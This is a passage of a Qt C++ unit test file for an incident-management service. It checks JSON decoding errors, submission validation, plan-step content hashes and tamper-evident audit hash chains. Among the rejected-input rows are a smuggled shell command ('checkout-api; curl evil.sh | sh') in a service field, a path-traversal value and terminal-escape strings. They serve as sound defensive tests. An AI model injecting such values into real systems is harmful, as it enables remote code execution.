    QTest::newRow("AuditEvent: type missing")
        << decoderOf<AuditEvent>() << without(audit, u"type"_s) << u"audit.type"_s << u"is required"_s;
    QTest::newRow("AuditEvent: payload is an array")
        << decoderOf<AuditEvent>() << with(audit, u"payload"_s, QJsonArray()) << u"audit.payload"_s
        << u"must be an object"_s;
    QTest::newRow("AuditEvent: prev_hash missing")
        << decoderOf<AuditEvent>() << without(audit, u"prev_hash"_s) << u"audit.prev_hash"_s << u"is required"_s;
    QTest::newRow("AuditEvent: hash over 64 characters") << decoderOf<AuditEvent>() << with(audit, u"hash"_s, tooLong64)
                                                         << u"audit.hash"_s << u"is longer than 64 characters"_s;

    const QJsonObject user = sampleUser().toJson();
    QTest::newRow("User: name missing") << decoderOf<User>() << without(user, u"name"_s) << u"user.name"_s
                                        << u"is required"_s;
    QTest::newRow("User: name over 200 characters") << decoderOf<User>() << with(user, u"name"_s, tooLong200)
                                                    << u"user.name"_s << u"is longer than 200 characters"_s;
    QTest::newRow("User: unknown role") << decoderOf<User>()
                                        << with(user, u"roles"_s, QJsonArray {u"viewer"_s, u"root"_s})
                                        << u"user.roles"_s << u"unknown role \"root\""_s;
    QTest::newRow("User: the internal system role is not assignable")
        << decoderOf<User>() << with(user, u"roles"_s, QJsonArray {u"system"_s}) << u"user.roles"_s
        << u"unknown role \"system\""_s;
    QTest::newRow("User: roles is a string")
        << decoderOf<User>() << with(user, u"roles"_s, u"mim"_s) << u"user.roles"_s << u"must be an array of strings"_s;
    QTest::newRow("User: display_name is a number")
        << decoderOf<User>() << with(user, u"display_name"_s, 7) << u"user.display_name"_s << u"must be a string"_s;

    const QJsonObject record = sampleRecord().toJson();
    QTest::newRow("IncidentRecord: incident missing")
        << decoderOf<IncidentRecord>() << without(record, u"incident"_s) << u"incident"_s << u"is required"_s;
    QTest::newRow("IncidentRecord: incident is a string")
        << decoderOf<IncidentRecord>() << with(record, u"incident"_s, u"INC-42"_s) << u"incident"_s
        << u"must be an object"_s;
    QTest::newRow("IncidentRecord: incident with an unknown state")
        << decoderOf<IncidentRecord>() << with(record, u"incident"_s, with(incident, u"state"_s, u"open"_s))
        << u"incident.state"_s << u"unknown value \"open\""_s;
    QTest::newRow("IncidentRecord: classification out of range")
        << decoderOf<IncidentRecord>() << with(record, u"classification"_s, with(classification, u"confidence"_s, 2))
        << u"classification.confidence"_s << u"between 0 and 1"_s;
    QTest::newRow("IncidentRecord: classification is a string")
        << decoderOf<IncidentRecord>() << with(record, u"classification"_s, u"web"_s) << u"classification"_s
        << u"must be an object"_s;
    QTest::newRow("IncidentRecord: plan with duplicate step ids")
        << decoderOf<IncidentRecord>() << with(record, u"plan"_s, with(plan, u"steps"_s, QJsonArray {step, step}))
        << u"plan.steps"_s << u"twice"_s;
    QTest::newRow("IncidentRecord: an approval without user")
        << decoderOf<IncidentRecord>() << with(record, u"approvals"_s, QJsonArray {without(approval, u"user"_s)})
        << u"approval.user"_s << u"is required"_s;
    QTest::newRow("IncidentRecord: a run without id")
        << decoderOf<IncidentRecord>() << with(record, u"runs"_s, QJsonArray {without(run, u"id"_s)}) << u"run.id"_s
        << u"is required"_s;
    QTest::newRow("IncidentRecord: matches holds a number")
        << decoderOf<IncidentRecord>() << with(record, u"matches"_s, QJsonArray {1}) << u"matches"_s
        << u"must be an array of objects"_s;
}

void TestModelsJson::decodeFailure()
{
    QFETCH(Decoder, decoder);
    QFETCH(QJsonObject, json);
    QFETCH(QString, field);
    QFETCH(QString, problem);

    const std::optional<Error> error = decoder.decode(json);
    QVERIFY2(error.has_value(), "the malformed JSON was accepted");
    QCOMPARE(int(error->code), int(ErrorCode::InvalidInput));
    QVERIFY2(error->message.contains(u"field \""_s + field + u'"'), qPrintable(error->message));
    QVERIFY2(error->message.contains(problem), qPrintable(error->message));
}

// --- submissions ----------------------------------------------------------------------

void TestModelsJson::submissionMinimal()
{
    const Expected<Incident> incident = Incident::fromSubmission(QJsonObject {{u"title"_s, u"Checkout is down"_s}});
    QVERIFY2(incident, errorText(incident).constData());
    QCOMPARE(incident->title, u"Checkout is down"_s);
    QCOMPARE(incident->source, u"rest"_s);
    QCOMPARE(incident->priority, QString());
    QCOMPARE(toString(incident->state), toString(IncidentState::New));
    QCOMPARE(toString(incident->severity), toString(Severity::Unknown));
    QCOMPARE(incident->restricted, false);
    QCOMPARE(incident->id, qint64(0));
    QVERIFY(incident->labels.isEmpty());
}

void TestModelsJson::submissionFull()
{
    const QJsonObject json {
        {u"title"_s, u"Checkout is down"_s},
        {u"description"_s, u"Customers see a redirect loop"_s},
        {u"service"_s, u"checkout-web"_s},
        {u"priority"_s, u"p2"_s},
        {u"source"_s, u"alertmanager"_s},
        {u"external_id"_s, u"am:7f3a/1@eu-west"_s},
        {u"restricted"_s, true},
        {u"labels"_s, QJsonObject {{u"team"_s, u"payments"_s}}},
    };
    const Expected<Incident> incident = Incident::fromSubmission(json);
    QVERIFY2(incident, errorText(incident).constData());
    QCOMPARE(incident->description, u"Customers see a redirect loop"_s);
    QCOMPARE(incident->service, u"checkout-web"_s);
    QCOMPARE(incident->priority, u"P2"_s); // normalised to upper case
    QCOMPARE(incident->source, u"alertmanager"_s);
    QCOMPARE(incident->externalId, u"am:7f3a/1@eu-west"_s);
    QCOMPARE(incident->restricted, true);
    QCOMPARE(incident->labels.value(u"team"_s).toString(), u"payments"_s);
}

void TestModelsJson::submissionTitleAtLimit()
{
    const Expected<Incident> incident = Incident::fromSubmission(QJsonObject {{u"title"_s, QString(500, u't')}});
    QVERIFY2(incident, errorText(incident).constData());
    QCOMPARE(incident->title.size(), qsizetype(500));
}

void TestModelsJson::submissionRejected_data()
{
    QTest::addColumn<QJsonObject>("json");
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("problem");

    const QJsonObject ok {{u"title"_s, u"Checkout is down"_s}};

    QTest::newRow("unknown field") << with(ok, u"colour"_s, u"red"_s) << u"colour"_s
                                   << u"is not a field of an incident"_s;
    QTest::newRow("shell in the service")
        << with(ok, u"service"_s, u"checkout-api; curl evil.sh | sh"_s) << u"service"_s << u"must be a service name"_s;
    QTest::newRow("path in the service") << with(ok, u"service"_s, u"../../etc"_s) << u"service"_s
                                         << u"must be a service name"_s;
    QTest::newRow("terminal escape in the title")
        << with(ok, u"title"_s, u"esc \x1b[2J\x1b[31mRED"_s) << u"title"_s << u"control or text-direction characters"_s;
    QTest::newRow("right-to-left override in the title")
        << with(ok, u"title"_s, u"\u202Eevil"_s) << u"title"_s << u"control or text-direction characters"_s;
    QTest::newRow("NUL in the description") << with(ok, u"description"_s, QString(u"a\0b"_s)) << u"description"_s
                                            << u"control or text-direction characters"_s;
    QTest::newRow("line break in the title")
        << with(ok, u"title"_s, u"one\ntwo"_s) << u"title"_s << u"control or text-direction characters"_s;
    QTest::newRow("severity is not the sender's to set")
        << with(ok, u"severity"_s, u"SEV1"_s) << u"severity"_s << u"is not a field"_s;
    QTest::newRow("state is not the sender's to set")
        << with(ok, u"state"_s, u"resolved"_s) << u"state"_s << u"is not a field"_s;
    QTest::newRow("id is not the sender's to set") << with(ok, u"id"_s, 7) << u"id"_s << u"is not a field"_s;
    QTest::newRow("priority P9") << with(ok, u"priority"_s, u"P9"_s) << u"priority"_s
                                 << u"must be one of P1, P2, P3, P4"_s;
    QTest::newRow("priority P0") << with(ok, u"priority"_s, u"P0"_s) << u"priority"_s
                                 << u"must be one of P1, P2, P3, P4"_s;
    QTest::newRow("priority high") << with(ok, u"priority"_s, u"high"_s) << u"priority"_s
                                   << u"is longer than 2 characters"_s;
    QTest::newRow("priority is a number") << with(ok, u"priority"_s, 1) << u"priority"_s << u"must be a string"_s;
    QTest::newRow("label value is a number")
        << with(ok, u"labels"_s, QJsonObject {{u"team"_s, 5}}) << u"labels"_s << u"must map short names to strings"_s;
    QTest::newRow("label value is an object") << with(ok, u"labels"_s, QJsonObject {{u"team"_s, QJsonObject()}})
                                              << u"labels"_s << u"must map short names to strings"_s;
    QTest::newRow("label value over 2000 characters")
        << with(ok, u"labels"_s, QJsonObject {{u"team"_s, QString(2001, u'v')}}) << u"labels"_s
        << u"must map short names to strings"_s;
    QTest::newRow("label name over 200 characters") << with(ok, u"labels"_s, QJsonObject {{QString(201, u'k'), u"v"_s}})
                                                    << u"labels"_s << u"must map short names to strings"_s;
    QJsonObject manyLabels;
    for (int i = 0; i < 101; ++i)
        manyLabels.insert(u"label%1"_s.arg(i), u"v"_s);
    QTest::newRow("more than 100 labels")
        << with(ok, u"labels"_s, manyLabels) << u"labels"_s << u"has more than 100 entries"_s;
    QTest::newRow("labels is an array") << with(ok, u"labels"_s, QJsonArray {u"team"_s}) << u"labels"_s
                                        << u"must be an object"_s;
    QTest::newRow("title missing") << QJsonObject {{u"service"_s, u"web"_s}} << u"title"_s << u"is required"_s;
    QTest::newRow("title null") << QJsonObject {{u"title"_s, QJsonValue()}} << u"title"_s << u"is required"_s;
    QTest::newRow("title empty") << QJsonObject {{u"title"_s, u""_s}} << u"title"_s << u"must not be empty"_s;
    QTest::newRow("title blank") << QJsonObject {{u"title"_s, u" \t\n "_s}} << u"title"_s << u"must not be empty"_s;
    QTest::newRow("title over 500 characters")
        << QJsonObject {{u"title"_s, QString(501, u't')}} << u"title"_s << u"is longer than 500 characters"_s;
    QTest::newRow("title is a number") << QJsonObject {{u"title"_s, 42}} << u"title"_s << u"must be a string"_s;
    QTest::newRow("description over 64 KiB") << with(ok, u"description"_s, QString(64 * 1024 + 1, u'd'))
                                             << u"description"_s << u"is longer than 65536 characters"_s;
    QTest::newRow("service over 200 characters")
        << with(ok, u"service"_s, QString(201, u's')) << u"service"_s << u"is longer than 200 characters"_s;
    QTest::newRow("external_id over 200 characters")
        << with(ok, u"external_id"_s, QString(201, u'e')) << u"external_id"_s << u"is longer than 200 characters"_s;
    QTest::newRow("source with a space") << with(ok, u"source"_s, u"my source"_s) << u"source"_s
                                         << u"may contain only letters, digits"_s;
    QTest::newRow("source over 64 characters")
        << with(ok, u"source"_s, QString(65, u'x')) << u"source"_s << u"is longer than 64 characters"_s;
    QTest::newRow("restricted is a string")
        << with(ok, u"restricted"_s, u"yes"_s) << u"restricted"_s << u"must be true or false"_s;
}

void TestModelsJson::submissionRejected()
{
    QFETCH(QJsonObject, json);
    QFETCH(QString, field);
    QFETCH(QString, problem);

    const Expected<Incident> incident = Incident::fromSubmission(json);
    QVERIFY2(!incident, "the submission was accepted");
    QCOMPARE(int(incident.error().code), int(ErrorCode::InvalidInput));
    const QString message = incident.error().message;
    QVERIFY2(message.contains(u'"' + field + u'"'), qPrintable(message));
    QVERIFY2(message.contains(problem), qPrintable(message));
}

// --- plan steps ------------------------------------------------------------------------

void TestModelsJson::contentHashChangesWithContent_data()
{
    QTest::addColumn<StepChange>("change");

    QTest::newRow("id") << StepChange {[](PlanStep &s) { s.id = u"s4"_s; }};
    QTest::newRow("kind") << StepChange {[](PlanStep &s) { s.kind = StepKind::Rollback; }};
    QTest::newRow("title") << StepChange {[](PlanStep &s) { s.title += u'!'; }};
    QTest::newRow("description") << StepChange {[](PlanStep &s) { s.description.clear(); }};
    QTest::newRow("playbook") << StepChange {[](PlanStep &s) { s.playbookId = u"restart-all"_s; }};
    QTest::newRow("vars value") << StepChange {[](PlanStep &s) { s.vars[u"batch"_s] = 3; }};
    QTest::newRow("vars new key") << StepChange {[](PlanStep &s) { s.vars[u"force"_s] = true; }};
    QTest::newRow("vars nested value") << StepChange {
        [](PlanStep &s) { s.vars[u"hosts"_s] = QJsonArray {u"web-1"_s}; }};
    QTest::newRow("risk") << StepChange {[](PlanStep &s) { s.risk = Risk::Medium; }};
    QTest::newRow("environment") << StepChange {[](PlanStep &s) { s.environment = u"uat"_s; }};
    QTest::newRow("required_roles added") << StepChange {[](PlanStep &s) { s.requiredRoles.append(u"admin"_s); }};
    QTest::newRow("required_roles removed") << StepChange {[](PlanStep &s) { s.requiredRoles.removeAll(u"mim"_s); }};
    QTest::newRow("required_roles reordered") << StepChange {[](PlanStep &s) {
        s.requiredRoles = {u"mim"_s, u"change-approver"_s};
    }};
    QTest::newRow("rollback_of") << StepChange {[](PlanStep &s) { s.rollbackOf = u"s2"_s; }};
    QTest::newRow("rollback_playbook set") << StepChange {[](PlanStep &s) { s.rollbackPlaybook = u"restore"_s; }};
    QTest::newRow("owner") << StepChange {[](PlanStep &s) { s.owner = u"dave"_s; }};
    QTest::newRow("due_at by one millisecond") << StepChange {[](PlanStep &s) { s.dueAt = s.dueAt.addMSecs(1); }};
    QTest::newRow("due_at cleared") << StepChange {[](PlanStep &s) { s.dueAt = QDateTime(); }};
}

void TestModelsJson::contentHashChangesWithContent()
{
    QFETCH(StepChange, change);

    PlanStep step = sampleStep();
    const QString before = step.contentHash();
    change.apply(step);
    QVERIFY2(step.contentHash() != before, step.canonicalContent().constData());
}

void TestModelsJson::contentHashIgnoresLife_data()
{
    QTest::addColumn<StepChange>("change");

    QTest::newRow("state") << StepChange {[](PlanStep &s) { s.state = StepState::Running; }};
    QTest::newRow("requested_by") << StepChange {[](PlanStep &s) { s.requestedBy = u"erin"_s; }};
    QTest::newRow("started_at") << StepChange {[](PlanStep &s) { s.startedAt = s.startedAt.addSecs(60); }};
    QTest::newRow("finished_at") << StepChange {[](PlanStep &s) { s.finishedAt = QDateTime(); }};
    QTest::newRow("result_summary") << StepChange {[](PlanStep &s) { s.resultSummary = u"failed on web-2"_s; }};
    QTest::newRow("all life fields at once") << StepChange {[](PlanStep &s) {
        s.state = StepState::Failed;
        s.requestedBy = u"alice"_s;
        s.startedAt = QDateTime();
        s.finishedAt = QDateTime();
        s.resultSummary.clear();
    }};
    // The hash covers the effective mutates (isMutating()), so the flag on a
    // step that mutates by its kind changes nothing an approver signs.
    QTest::newRow("mutates flag on a remediate step") << StepChange {[](PlanStep &s) { s.mutates = !s.mutates; }};
}

void TestModelsJson::contentHashIgnoresLife()
{
    QFETCH(StepChange, change);

    PlanStep step = sampleStep();
    const QString before = step.contentHash();
    change.apply(step);
    QCOMPARE(step.contentHash(), before);
}

void TestModelsJson::contentHashIsSha256OfCanonicalContent()
{
    const PlanStep step = sampleStep();
    const QByteArray canonical = step.canonicalContent();
    QCOMPARE(step.contentHash(),
             QString::fromLatin1(QCryptographicHash::hash(canonical, QCryptographicHash::Sha256).toHex()));
    QCOMPARE(step.contentHash().size(), qsizetype(64));

    // The canonical content is compact JSON of exactly the content fields.
    const QJsonObject content = QJsonDocument::fromJson(canonical).object();
    QCOMPARE(compact(content), canonical);
    QStringList keys = content.keys();
    QCOMPARE(
        keys,
        (QStringList {u"description"_s, u"due_at"_s, u"environment"_s, u"id"_s, u"kind"_s, u"mutates"_s, u"owner"_s,
                      u"playbook"_s, u"required_roles"_s, u"risk"_s, u"rollback_of"_s, u"title"_s, u"vars"_s}));
    QCOMPARE(content.value(u"due_at"_s).toString(), u"2024-03-01T14:00:00.500Z"_s);

    // The rollback link is content only once set: the hashes of steps
    // stored before there was one (and the approvals that sign them) stay.
    PlanStep linked = step;
    linked.rollbackPlaybook = u"sso-metadata-restore"_s;
    QJsonObject withLink = content;
    withLink.insert(u"rollback_playbook"_s, u"sso-metadata-restore"_s);
    QCOMPARE(linked.canonicalContent(), compact(withLink));
    QCOMPARE(PlanStep::fromJson(linked.toJson())->rollbackPlaybook, u"sso-metadata-restore"_s);
    QVERIFY(!step.toJson().contains(u"rollback_playbook"_s));
}

void TestModelsJson::stepJsonCarriesHashAndApprovalsNeeded()
{
    PlanStep step = sampleStep();
    QJsonObject json = step.toJson();
    QCOMPARE(json.value(u"content_hash"_s).toString(), step.contentHash());
    QCOMPARE(json.value(u"approvals_needed"_s).toInt(), 2);

    step.risk = Risk::Medium;
    QCOMPARE(step.approvalsNeeded(), 1);
    step.risk = Risk::Low;
    json = step.toJson();
    QCOMPARE(json.value(u"approvals_needed"_s).toInt(), 1);

    // Stale derived fields in the input are ignored, not trusted.
    const Expected<PlanStep> decoded
        = PlanStep::fromJson(with(with(json, u"content_hash"_s, QString(64, u'0')), u"approvals_needed"_s, 0));
    QVERIFY2(decoded, errorText(decoded).constData());
    QCOMPARE(decoded->contentHash(), step.contentHash());
    QCOMPARE(decoded->approvalsNeeded(), 1);
}

void TestModelsJson::stepIsMutating_data()
{
    QTest::addColumn<int>("kind");
    QTest::addColumn<bool>("mutatesFlag");
    QTest::addColumn<bool>("expected");

    QTest::newRow("diagnose") << int(StepKind::Diagnose) << false << false;
    QTest::newRow("diagnose flagged") << int(StepKind::Diagnose) << true << true;
    QTest::newRow("snapshot") << int(StepKind::Snapshot) << false << false;
    QTest::newRow("remediate") << int(StepKind::Remediate) << false << true;
    QTest::newRow("rollback") << int(StepKind::Rollback) << false << true;
    QTest::newRow("validate") << int(StepKind::Validate) << false << false;
    QTest::newRow("communicate") << int(StepKind::Communicate) << false << false;
    QTest::newRow("manual") << int(StepKind::Manual) << false << false;
    QTest::newRow("manual flagged") << int(StepKind::Manual) << true << true;
    QTest::newRow("remediate flagged") << int(StepKind::Remediate) << true << true;
}

void TestModelsJson::stepIsMutating()
{
    QFETCH(int, kind);
    QFETCH(bool, mutatesFlag);
    QFETCH(bool, expected);

    PlanStep step;
    step.kind = StepKind(kind);
    step.mutates = mutatesFlag;
    QCOMPARE(step.isMutating(), expected);
    QCOMPARE(QJsonDocument::fromJson(step.canonicalContent()).object().value(u"mutates"_s).toBool(), expected);
    // The flag is part of the signed content only where the kind does not imply it.
    PlanStep unflagged = step;
    unflagged.mutates = false;
    QCOMPARE(step.contentHash() == unflagged.contentHash(), !mutatesFlag || kindMutates(step.kind));
}

// --- audit records ---------------------------------------------------------------------

void TestModelsJson::auditCanonicalMatchesQt_data()
{
    QTest::addColumn<QString>("actor");
    QTest::addColumn<QString>("type");
    QTest::addColumn<QJsonObject>("payload");
    QTest::addColumn<qint64>("seq");
    QTest::addColumn<qint64>("incident");
    QTest::addColumn<QDateTime>("time");

    const QDateTime t = utc(13, 5, 6, 78);
    const QJsonObject simple {{u"step"_s, u"s1"_s}};

    QTest::newRow("plain") << u"bob"_s << u"step.approved"_s << simple << qint64(1) << qint64(42) << t;
    QTest::newRow("empty strings") << QString() << QString() << QJsonObject() << qint64(0) << qint64(0) << QDateTime();
    QTest::newRow("quotes") << u"\"bob\""_s << u"say \"hi\""_s << simple << qint64(2) << qint64(42) << t;
    QTest::newRow("backslashes") << u"DOMAIN\\bob"_s << u"a\\\\b\\"_s << simple << qint64(3) << qint64(42) << t;
    QTest::newRow("named control characters")
        << u"a\bb\fc\nd\re\tf"_s << u"\n"_s << simple << qint64(4) << qint64(42) << t;
    QString controls;
    for (char16_t c = 0; c < 0x20; ++c)
        controls.append(QChar(c));
    QTest::newRow("every control character") << controls << u"x\u001fy"_s << simple << qint64(5) << qint64(42) << t;
    QTest::newRow("DEL and line separators are not escaped")
        << u"a\u007fb"_s << u"c\u2028d\u2029e"_s << simple << qint64(6) << qint64(42) << t;
    QTest::newRow("slash is not escaped") << u"</script>"_s << u"a/b"_s << simple << qint64(7) << qint64(42) << t;
    QTest::newRow("unicode") << u"Zoë Ægir"_s << u"日本語 ✓"_s << simple << qint64(8) << qint64(42) << t;
    QTest::newRow("astral plane (surrogate pair)") << u"🚨 oncall"_s << u"𝄞"_s << simple << qint64(9) << qint64(42) << t;
    QTest::newRow("noncharacters and the replacement character")
        << u"a\uFFFE\uFFFFb"_s << u"\uFFFD"_s << simple << qint64(10) << qint64(42) << t;
    QTest::newRow("payload with escapes")
        << u"bob"_s << u"step.edited"_s
        << QJsonObject {{u"quote"_s, u"\"q\""_s},
                        {u"path"_s, u"C:\\tmp"_s},
                        {u"lines"_s, u"a\nb\u0001"_s},
                        {u"unicode"_s, u"é 🚨"_s},
                        {u"nested"_s, QJsonObject {{u"list"_s, QJsonArray {1, 2.5, true, QJsonValue()}}}}}
        << qint64(10) << qint64(42) << t;
    QTest::newRow("large seq and negative incident")
        << u"bob"_s << u"x"_s << simple << qint64(9007199254740993LL) << qint64(-1) << t;
    QTest::newRow("time without milliseconds part")
        << u"bob"_s << u"x"_s << simple << qint64(11) << qint64(42) << utc(0, 0, 0, 0);
    QString lone;
    lone.append(QChar(0xd800));
    lone.append(u'x');
    QTest::newRow("unpaired surrogate") << lone << u"x"_s << simple << qint64(12) << qint64(42) << t;
}

void TestModelsJson::auditCanonicalMatchesQt()
{
    QFETCH(QString, actor);
    QFETCH(QString, type);
    QFETCH(QJsonObject, payload);
    QFETCH(qint64, seq);
    QFETCH(qint64, incident);
    QFETCH(QDateTime, time);

    AuditEvent event;
    event.seq = seq;
    event.time = time;
    event.actor = actor;
    event.incidentId = incident;
    event.type = type;
    event.payload = AuditEvent::canonicalPayload(payload);
    event.prevHash = QString(kGenesisHash);

    const QByteArray expected = QJsonDocument(QJsonObject {
                                                  {u"actor"_s, actor},
                                                  {u"incident"_s, incident},
                                                  {u"payload"_s, payload},
                                                  {u"seq"_s, seq},
                                                  {u"time"_s, toIsoTime(time)},
                                                  {u"type"_s, type},
                                              })
                                    .toJson(QJsonDocument::Compact);
    // An unpaired surrogate is written as \udXXX like Qt does, not as '?'.
    QCOMPARE(event.canonical(), expected);
    // It is valid JSON that reads back as the same fields.
    const QJsonObject back = QJsonDocument::fromJson(event.canonical()).object();
    QCOMPARE(back.value(u"type"_s).toString(), type);
    QCOMPARE(back.value(u"payload"_s).toObject(), payload);
}

void TestModelsJson::auditComputeHash_data()
{
    QTest::addColumn<QString>("prevHash");
    QTest::addColumn<QString>("actor");
    QTest::addColumn<QString>("type");

    QTest::newRow("genesis") << QString(kGenesisHash) << u"bob"_s << u"step.approved"_s;
    QTest::newRow("chained") << QString::fromLatin1(
        QCryptographicHash::hash("previous", QCryptographicHash::Sha256).toHex())
                             << u"warroomd"_s << u"incident.triaged"_s;
    QTest::newRow("escapes and unicode") << QString(kGenesisHash) << u"\"Zoë\"\n\\"_s << u"日本 🚨"_s;
}

void TestModelsJson::auditComputeHash()
{
    QFETCH(QString, prevHash);
    QFETCH(QString, actor);
    QFETCH(QString, type);

    AuditEvent event = sampleAuditEvent();
    event.prevHash = prevHash;
    event.actor = actor;
    event.type = type;

    QByteArray input = prevHash.toLatin1();
    input += event.canonical();
    const QString expected = QString::fromLatin1(QCryptographicHash::hash(input, QCryptographicHash::Sha256).toHex());
    QCOMPARE(event.computeHash(), expected);
    QCOMPARE(event.computeHash().size(), qsizetype(64));
    QCOMPARE(event.computeHash(), event.computeHash().toLower());
}

void TestModelsJson::auditHashChainDetectsTampering()
{
    AuditEvent first = sampleAuditEvent();
    first.prevHash = QString(kGenesisHash);
    first.hash = first.computeHash();

    AuditEvent second = sampleAuditEvent();
    second.seq = first.seq + 1;
    second.type = u"step.started"_s;
    second.payload = AuditEvent::canonicalPayload({{u"step"_s, u"s3"_s}});
    second.prevHash = first.hash;
    second.hash = second.computeHash();
    QVERIFY(second.hash != first.hash);

    // Every field the hash covers changes it.
    AuditEvent tampered = second;
    tampered.payload = AuditEvent::canonicalPayload({{u"step"_s, u"s4"_s}});
    QVERIFY(tampered.computeHash() != second.hash);
    tampered = second;
    tampered.actor = u"mallory"_s;
    QVERIFY(tampered.computeHash() != second.hash);
    tampered = second;
    tampered.seq += 1;
    QVERIFY(tampered.computeHash() != second.hash);
    tampered = second;
    tampered.incidentId += 1;
    QVERIFY(tampered.computeHash() != second.hash);
    tampered = second;
    tampered.time = tampered.time.addMSecs(1);
    QVERIFY(tampered.computeHash() != second.hash);
    tampered = second;
    tampered.type = u"step.finished"_s;
    QVERIFY(tampered.computeHash() != second.hash);
    tampered = second;
    tampered.prevHash = QString(kGenesisHash);
    QVERIFY(tampered.computeHash() != second.hash);

    // The stored hash itself is not part of what is hashed.
    tampered = second;
    tampered.hash = QString(64, u'f');
    QCOMPARE(tampered.computeHash(), second.hash);
}

void TestModelsJson::auditCanonicalPayloadIsSortedAndCompact()
{
    const QJsonObject payload {{u"zeta"_s, 1}, {u"alpha"_s, QJsonObject {{u"b"_s, 2}, {u"a"_s, u"x"_s}}}};
    QCOMPARE(AuditEvent::canonicalPayload(payload), QByteArray(R"({"alpha":{"a":"x","b":2},"zeta":1})"));

    AuditEvent event = sampleAuditEvent();
    event.payload = AuditEvent::canonicalPayload(payload);
    QCOMPARE(event.payloadObject(), payload);

    // An empty payload is hashed as the empty object.
    AuditEvent empty = sampleAuditEvent();
    empty.payload.clear();
    AuditEvent emptyObject = sampleAuditEvent();
    emptyObject.payload = AuditEvent::canonicalPayload(QJsonObject());
    QCOMPARE(emptyObject.payload, QByteArray("{}"));
    QCOMPARE(empty.canonical(), emptyObject.canonical());
    QCOMPARE(empty.computeHash(), emptyObject.computeHash());
    QVERIFY(empty.canonical().contains(R"("payload":{},)"));
}

/// An incident's JSON without what the store gives it (as "incident.created" records it).
static QJsonObject withoutIdentity(QJsonObject json)
{
    for (const QString &k : {u"id"_s, u"key"_s, u"created_at"_s, u"updated_at"_s})
        json.remove(k);
    return json;
}

/// Incident::toCompactJson writes the bytes Qt's writer writes for toJson().
void TestModelsJson::incidentCompactJsonMatchesQt_data()
{
    QTest::addColumn<Incident>("incident");
    QTest::newRow("sample (quotes, escapes, unicode, labels, times)") << sampleIncident();
    QTest::newRow("defaults") << Incident();
    Incident every = sampleIncident();
    every.id = std::numeric_limits<qint64>::max();
    every.major = u"declared"_s;
    every.majorBy = u"mim.on.call"_s;
    every.majorReason = u"<b>\u2028</b>\u2028\u2029 a/b \u007f"_s;
    every.commander = u"Zoë"_s;
    every.commsLead = u"\U0001F6A8 lead"_s;
    every.scribe = QString(QChar(0xD800)) + u"lone high, then lone low "_s + QChar(0xDC00);
    every.severityBy = u"x\u001fy"_s;
    every.severityReason = u"a\bb\fc\nd\re\tf"_s;
    every.drill = u"db-failover"_s;
    every.acknowledgedBy = u"bob"_s;
    every.acknowledgedAt = utc(0, 0, 0, 0);
    every.mitigatedAt = utc(23, 59, 59, 999);
    every.resolvedAt = QDateTime(QDate(1969, 12, 31), QTime(23, 59, 59, 1), Qt::UTC);
    every.externalRefs = QJsonObject {
        {u"jira"_s, u"OPS-1"_s}, {u"nested"_s, QJsonObject {{u"n"_s, 1.5}, {u"list"_s, QJsonArray {1, u"two"_s}}}}};
    QTest::newRow("every field set, extremes") << every;
    Incident negative;
    negative.id = -7;
    negative.eventCount = 0;
    negative.flapCount = std::numeric_limits<qint64>::min();
    QTest::newRow("negative numbers") << negative;
}

void TestModelsJson::incidentCompactJsonMatchesQt()
{
    QFETCH(Incident, incident);
    QCOMPARE(incident.toCompactJson(), compact(incident.toJson()));
    QCOMPARE(incident.toCompactJson(Incident::Identity::Left), compact(withoutIdentity(incident.toJson())));
}

void TestModelsJson::incidentCompactJsonMatchesQtOnRandomIncidents()
{
    // Strings of any UTF-16 code units (control characters, surrogates
    // paired and not, quotes and backslashes weighted up), random numbers.
    QRandomGenerator rng(20261202);
    auto text = [&] { return randomText(rng, 12); };
    auto time = [&] { return randomTime(rng, 4); };
    for (int round = 0; round < 500; ++round) {
        Incident i;
        i.id = qint64(rng.generate64());
        for (QString *s : {&i.externalId, &i.title, &i.description, &i.service, &i.priority, &i.source, &i.owner,
                           &i.reportedBy, &i.major, &i.majorBy, &i.majorReason, &i.commander, &i.commsLead, &i.scribe,
                           &i.severityBy, &i.severityReason, &i.drill, &i.acknowledgedBy, &i.sourceStatus})
            *s = text();
        i.state = IncidentState(rng.bounded(int(IncidentState::Closed) + 1));
        i.severity = Severity(rng.bounded(5));
        i.restricted = rng.bounded(2);
        i.flapping = rng.bounded(2);
        i.eventCount = rng.bounded(1'000'000);
        i.flapCount = qint64(rng.generate64());
        i.acknowledgedAt = time();
        i.mitigatedAt = time();
        i.resolvedAt = time();
        i.lastEventAt = time();
        i.createdAt = time();
        i.updatedAt = time();
        if (rng.bounded(2))
            i.labels = QJsonObject {{text(), text()}, {u"k"_s, double(rng.generate()) / 7.0}};
        const QByteArray expected = compact(i.toJson());
        if (i.toCompactJson(Incident::Identity::Left) != compact(withoutIdentity(i.toJson())))
            QFAIL(qPrintable(u"round %1 without the identity: %2"_s.arg(round).arg(
                QString::fromUtf8(i.toCompactJson(Incident::Identity::Left)))));
        if (i.toCompactJson() != expected)
            QFAIL(qPrintable(u"round %1: %2 != %3"_s.arg(round).arg(QString::fromUtf8(i.toCompactJson()),
                                                                    QString::fromUtf8(expected))));
    }
}

// --- small things ------------------------------------------------------------------------

void TestModelsJson::classificationCompactJsonMatchesQt()
{
    QCOMPARE(sampleReason().toCompactJson(), compact(sampleReason().toJson()));
    QCOMPARE(sampleRunnerUp().toCompactJson(), compact(sampleRunnerUp().toJson()));
    QCOMPARE(sampleClassification().toCompactJson(), compact(sampleClassification().toJson()));
    QCOMPARE(Classification().toCompactJson(), compact(Classification().toJson()));
    QCOMPARE(sampleMatch().toCompactJson(), compact(sampleMatch().toJson()));
    QCOMPARE(KnowledgeMatch().toCompactJson(), compact(KnowledgeMatch().toJson()));
}

void TestModelsJson::classificationCompactJsonMatchesQtOnRandomValues()
{
    // Doubles of every shape Qt writes differently (integral, tiny, huge,
    // negative zero, not finite) and strings of any code units.
    QRandomGenerator rng(1202);
    auto number = [&] {
        static const double kEdge[] = {0.0,
                                       -0.0,
                                       1.0,
                                       0.1,
                                       1.0 / 3.0,
                                       1e-300,
                                       5e-324,
                                       1e21,
                                       1e15 + 0.5,
                                       123456789012345678.0,
                                       -2.5,
                                       std::numeric_limits<double>::max(),
                                       std::numeric_limits<double>::infinity(),
                                       std::numeric_limits<double>::quiet_NaN()};
        return rng.bounded(3) == 0 ? kEdge[rng.bounded(int(std::size(kEdge)))]
                                   : (rng.generateDouble() - 0.5) * std::pow(10.0, rng.bounded(40) - 20);
    };
    auto text = [&] {
        QString t;
        const int n = rng.bounded(8);
